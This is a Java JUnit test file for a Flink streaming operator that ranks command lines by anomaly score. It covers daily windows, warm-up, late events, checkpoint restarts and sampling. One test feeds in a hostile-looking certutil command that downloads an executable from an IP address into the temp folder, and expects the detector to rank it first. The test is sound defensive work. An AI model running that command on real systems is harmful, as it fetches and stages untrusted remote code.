package dev.longtail.detectors.flink;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.detectors.core.Candidate;
import dev.longtail.detectors.core.DetectorWindows;
import dev.longtail.detectors.core.FunnelCount;
import dev.longtail.detectors.core.FunnelStage;
import dev.longtail.detectors.core.IsolationForestDetector;
import dev.longtail.detectors.core.SampleSize;
import dev.longtail.detectors.core.SampledCommand;
import dev.longtail.detectors.core.ScoredCommand;
import dev.longtail.detectors.core.ShardRanker;
import dev.longtail.detectors.core.ShardWindow;
import dev.longtail.udfs.core.CommandHash;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DetectFunctionTest {
  private static final long FIRST_DAY = Instant.parse("2025-01-01T00:00:00Z").toEpochMilli();
  private static final long DAY = Duration.ofDays(1).toMillis();
  private static final int TOP = 5;

  @Test
  void sendsTheTopOfAWindowWhenItCloses() throws Exception {
    try (Harness shard = open()) {
      events(FIRST_DAY, 60).forEach(shard::send);
      shard.send(event("certutil -urlcache -f http://203.0.113.9/x.exe %TEMP%\\x.exe", FIRST_DAY));
      assertThat(shard.results()).isEmpty();
      shard.watermark(FIRST_DAY + DAY - 1);
      assertThat(shard.results()).hasSize(TOP).isSortedAccordingTo(ScoredCommand.RANKING);
      assertThat(shard.results().get(0).command().commandLine()).startsWith("certutil");
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(61);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isZero();
      assertThat(shard.harness.numEventTimeTimers()).isZero();
    }
  }

  @Test
  void theFirstWindowIsAWarmUpAndSaysSo() throws Exception {
    try (Harness shard = open()) {
      events(FIRST_DAY, 60).forEach(shard::send);
      shard.watermark(FIRST_DAY + DAY - 1);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.WARM_UP)).isEqualTo(10);
    }
    try (Harness shard = open()) {
      events(FIRST_DAY, 20).forEach(shard::send);
      shard.watermark(FIRST_DAY + DAY - 1);
      events(FIRST_DAY + DAY, 60).forEach(shard::send);
      shard.watermark(FIRST_DAY + 2 * DAY - 1);
      assertThat(shard.funnel(FunnelStage.RANKED)).isEqualTo(50);
      assertThat(shard.funnel(FunnelStage.WARM_UP)).isZero();
    }
  }

  @Test
  void countsRepeatedAndLateEvents() throws Exception {
    try (Harness shard = open()) {
      shard.send(event("ls", FIRST_DAY));
      shard.send(event("ls", FIRST_DAY + 1));
      shard.watermark(FIRST_DAY + DAY - 1);
      shard.send(event("ls", FIRST_DAY + 2));
      shard.send(event("pwd", FIRST_DAY + 3));
      assertThat(shard.funnel(FunnelStage.UNIQUE)).isEqualTo(1);
      assertThat(shard.funnel(FunnelStage.REPEATED)).isEqualTo(1);
      assertThat(shard.funnel(FunnelStage.LATE)).isEqualTo(2);
      assertThat(shard.results()).hasSize(1);
    }
  }

  @Test
  void aWindowThatWasClosedBeforeARestartStaysClosed() throws Exception {
    OperatorSubtaskState checkpoint;
    try (Harness shard = open()) {
      shard.send(event("ls", FIRST_DAY));
      shard.watermark(FIRST_DAY + DAY - 1);
      checkpoint = shard.harness.snapshot(1, 1);
    }
    try (Harness restarted = open(checkpoint)) {
      restarted.send(event("pwd", FIRST_DAY + 1));
      assertThat(restarted.funnel(FunnelStage.LATE)).isEqualTo(1);
      assertThat(restarted.harness.numEventTimeTimers()).isZero();
    }
  }

  @Test
  void whoGoesOnFromADrainedJobBeginsANewStream() throws Exception {
    OperatorSubtaskState checkpoint;
    try (Harness shard = open()) {
      shard.send(event("ls", FIRST_DAY));
      shard.watermark(Long.MAX_VALUE);
      checkpoint = shard.harness.snapshot(1, 1);
    }
    try (Harness restarted = open(checkpoint)) {
      restarted.send(event("pwd", FIRST_DAY + DAY));
      restarted.watermark(FIRST_DAY + 2 * DAY - 1);
      assertThat(restarted.results()).hasSize(1);
    }
  }

  @Test
  void sendsOnAtOnceWhatMayBelongToTheSample() throws Exception {
    SampleSize half = new SampleSize(0.5, 10_000);
    List<Candidate> events = new ArrayList<>(events(FIRST_DAY, 400));
    events.addAll(events.subList(0, 100));
    try (Harness shard = open(WindowClosing.ON_WATERMARK, null, half)) {
      events.forEach(shard::send);
      List<SampledCommand> sampled =
          shard.harness.getSideOutput(SideOutputs.SAMPLED).stream()
              .map(StreamRecord::getValue)
              .toList();
      List<SampledCommand> first = sampled.stream().filter(SampledCommand::first).toList();
      assertThat(first).doesNotHaveDuplicates().hasSizeBetween(150, 250);
      assertThat(first).extracting(SampledCommand::sighting).isSubsetOf(events);
      assertThat(sampled).hasSizeGreaterThan(first.size());
      shard.watermark(FIRST_DAY + DAY - 1);
      assertThat(shard.funnel(FunnelStage.NOT_SAMPLED)).isEqualTo(500 - sampled.size());
    }
  }

  @ParameterizedTest
  @ValueSource(longs = {1, 2, 3})
  void neitherTheOrderOfArrivalNorARestartChangesTheResult(long shuffle) throws Exception {
    List<Candidate> events = new ArrayList<>();
    for (int day = 0; day < 3; day++) {
      events.addAll(events(FIRST_DAY + day * DAY, 200));
    }
    List<ScoredCommand> reference;
    try (Harness shard = open()) {
      events.forEach(shard::send);
      shard.watermark(FIRST_DAY + 3 * DAY);
      reference = shard.results();
    }
    assertThat(reference).hasSize(3 * TOP);

    Collections.shuffle(events, new Random(shuffle));
    int half = events.size() / 2;
    OperatorSubtaskState checkpoint;
    try (Harness shard = open()) {
      events.subList(0, half).forEach(shard::send);
      checkpoint = shard.harness.snapshot(1, 1);
      events.subList(half, events.size()).forEach(shard::send);
    }
    try (Harness restarted = open(checkpoint)) {
      events.subList(half, events.size()).forEach(restarted::send);
      restarted.watermark(FIRST_DAY + 3 * DAY);
      assertThat(restarted.results()).isEqualTo(reference);
    }
  }

  @Test
  void batchModeClosesWindowsByTheNextOneWithTheSameResult() throws Exception {
    List<Candidate> events = new ArrayList<>(events(FIRST_DAY, 150));
    events.addAll(events(FIRST_DAY + DAY, 150));
    List<ScoredCommand> streaming;
    try (Harness shard = open()) {
      events.forEach(shard::send);
      shard.watermark(Long.MAX_VALUE);
      streaming = shard.results();
    }
    try (Harness shard = open(WindowClosing.ON_NEXT_WINDOW, null)) {
      events.stream().sorted(Comparator.comparingLong(Candidate::firstSeen)).forEach(shard::send);
      assertThat(shard.results()).hasSize(TOP);
      shard.watermark(Long.MAX_VALUE);
      assertThat(shard.results()).isEqualTo(streaming);
    }
  }

  private static List<Candidate> events(long start, int count) {
    Random random = new Random(start);
    return IntStream.range(0, count)
        .mapToObj(
            i ->
                event(
                    "/usr/bin/backup --job nightly --set " + i + "-".repeat(random.nextInt(9)),
                    start + i * 1000L))
        .toList();
  }

  private static Candidate event(String commandLine, long ts) {
    return new Candidate(
        CommandHash.of(commandLine), commandLine, "id" + ts, ts, "host", "user", "linux", 1);
  }

  private static Harness open() throws Exception {
    return open(null);
  }

  private static Harness open(OperatorSubtaskState checkpoint) throws Exception {
    return open(WindowClosing.ON_WATERMARK, checkpoint);
  }

  private static Harness open(WindowClosing closing, OperatorSubtaskState checkpoint)
      throws Exception {
    return open(closing, checkpoint, null);
  }

  private static Harness open(
      WindowClosing closing, OperatorSubtaskState checkpoint, SampleSize sample) throws Exception {
    DetectFunction function =
        new DetectFunction(
            DetectorWindows.DAILY,
            closing,
            new ShardWindow.Limits(64, 50),
            new ShardRanker(IsolationForestDetector.DEFAULT, 100, TOP),
            sample,
            1);
    Harness shard =
        new Harness(
            new KeyedOneInputStreamOperatorTestHarness<>(
                new WindowedOperator<>(function), event -> 1, Types.INT));
    shard.harness.setup();
    if (checkpoint != null) {
      shard.harness.initializeState(checkpoint);
    }
    shard.harness.open();
    return shard;
  }

  private record Harness(
      KeyedOneInputStreamOperatorTestHarness<Integer, Candidate, ScoredCommand> harness)
      implements AutoCloseable {
    void send(Candidate event) {
      try {
        harness.processElement(event, event.firstSeen());
      } catch (Exception e) {
        throw new AssertionError(e);
      }
    }

    void watermark(long time) throws Exception {
      harness.processWatermark(time);
    }

    List<ScoredCommand> results() {
      return harness.extractOutputValues();
    }

    long funnel(FunnelStage stage) {
      return harness.getSideOutput(SideOutputs.FUNNEL).stream()
          .map(StreamRecord::getValue)
          .filter(count -> count.stage() == stage)
          .mapToLong(FunnelCount::count)
          .max()
          .orElse(0);
    }

    @Override
    public void close() throws Exception {
      harness.close();
    }
  }
}
